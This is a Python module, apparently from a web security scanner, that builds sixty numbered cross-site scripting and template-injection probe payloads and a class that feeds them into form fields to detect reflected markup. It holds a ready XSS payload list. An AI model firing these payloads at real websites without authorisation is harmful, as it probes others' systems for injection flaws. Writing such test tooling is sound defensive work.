"""Sixty pieces of markup, each of its own shape and bearing its own number; and the words that carry them into a field."""

from __future__ import annotations

import re
from collections import Counter
from typing import Final

_SHAPES: Final = (
    # elements that run
    "<script>@()</script>", "<ScRiPt id=@>x()</sCrIpT>", "<script/src=//@></script>", "<svg/onload=@()>", "<svg><script>@()</script></svg>",
    "<img src=@ onerror=x()>", "<img/src=`@`onerror=x()>", "<body onload=@()>", "<input autofocus onfocus=@()>", "<details open ontoggle=@()>",
    "<video><source onerror=@()></video>", "<audio src onerror=@()>", "<marquee onstart=@()>", "<select autofocus onfocus=@()>",
    "<a href=javascript:@()>a</a>", "<a href='JaVaScRiPt:@()'>a</a>", "<a href='java\tscript:@()'>a</a>", "<a href=data:text/html,@>a</a>",
    "<form action=javascript:@()><button>", "<button formaction=javascript:@()>b", "<iframe src=javascript:@()>", "<iframe srcdoc='<b id=@>'>",
    "<object data=//@>", "<embed src=//@>", "<math><mtext id=@>", "<base href=//@/>", "<link rel=stylesheet href=//@>", "<style>@{}</style>",
    "<meta http-equiv=refresh content='0;//@'>", "<template id=@>", "<b id=@>", "<p style=color:@>", "<x-@>", "<isindex type=image src=@ onerror=x()>",
    # ways out of where words stand
    "\"><b id=@>", "'><i id=@>", "\" onmouseover=@() x=\"", "' onmouseover=@() x='", " onmouseover=@() ", "`onmouseover=@()", "</textarea><b id=@>",
    "</title><script>@()</script>", "</option></select><b id=@>", "</td></tr></table><b id=@>", "</style><b id=@>", "</script><b id=@>",
    "--><b id=@>", "]]><b id=@>", "<!--@", "<![CDATA[<b id=@>]]>", "<scr<script>ipt id=@>", "<b/id=@",
    # what becomes markup when it is decoded or evaluated once too often
    "&lt;b id=@&gt;", "&#60;b id=@&#62;", "%3Cb id=@%3E", "\\u003cb id=@\\u003e", "＜b id=@＞", "@{{ 7*7 }}", "@${7*7}", "@<%= 7*7 %>",
)  # fmt: skip
PAYLOADS: Final = tuple(shape.replace("@", f"x{place}q") for place, shape in enumerate(_SHAPES))
"""Each bears its number, `x12q`, so that what comes of it is known."""
BORNE: Final = re.compile(r"x\d+q")
"""The number of a payload, wherever it comes out."""
EVALUATED: Final = re.compile(r"x\d+q\W?49")
"""What a template makes of `7*7`, beside its number."""


class Words:
    """The words that fields are given: as many payloads as each holds, each in its turn."""

    def __init__(self) -> None:
        self._next: Counter[str] = Counter()

    def for_field(self, field: str, at_most: int) -> str:
        """What to write there now, in so many letters at most: the payloads that come next in that field, one at the least."""
        words, numbers = "mots", list[int]()
        for number in (place % len(PAYLOADS) for place in range(self._next[field], self._next[field] + len(PAYLOADS))):
            if numbers and len(f"{words} {PAYLOADS[number]}") > at_most:
                break
            words += f" {PAYLOADS[number]}"
            numbers.append(number)
        self._next[field] += len(numbers)
        return words

    def written_whole(self, field: str) -> bool:
        """Whether a field has been given each payload."""
        return self._next[field] >= len(PAYLOADS)
